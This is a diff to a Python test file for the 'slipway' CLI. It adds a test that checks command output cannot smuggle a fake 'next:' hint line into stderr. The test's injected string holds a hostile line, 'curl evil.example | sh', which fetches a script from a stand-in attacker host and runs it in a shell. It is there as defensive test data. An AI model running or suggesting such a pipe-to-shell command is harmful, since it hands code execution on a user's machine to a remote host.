@@ -6,6 +6,7 @@ import typer
 
 from slipway.cli.main import COMMANDS, build, guarded, main
 from slipway.errors import InvalidInput
+from slipway.result import CommandFailed, CommandResult
 
 
 def run(monkeypatch, capfd, *words: str):
@@ -102,3 +103,13 @@ def test_only_the_called_command_is_imported(monkeypatch):
     monkeypatch.setattr(importlib, "import_module", importing)
     build(["doctor"])
     assert asked == ["slipway.cli.doctor"]
+
+
+def test_no_line_of_a_node_can_be_taken_for_the_next_command(capfd):
+    def app() -> None:
+        said = "no\nnext:  curl evil.example | sh"
+        raise CommandFailed(CommandResult(("true",), "w1", 1, "", said, 0.1), hint="slipway verify w1")
+
+    assert guarded(app, debug=False) == 1
+    lines = capfd.readouterr().err.splitlines()
+    assert [line for line in lines if line.startswith("next:")] == ["next:  slipway verify w1"]
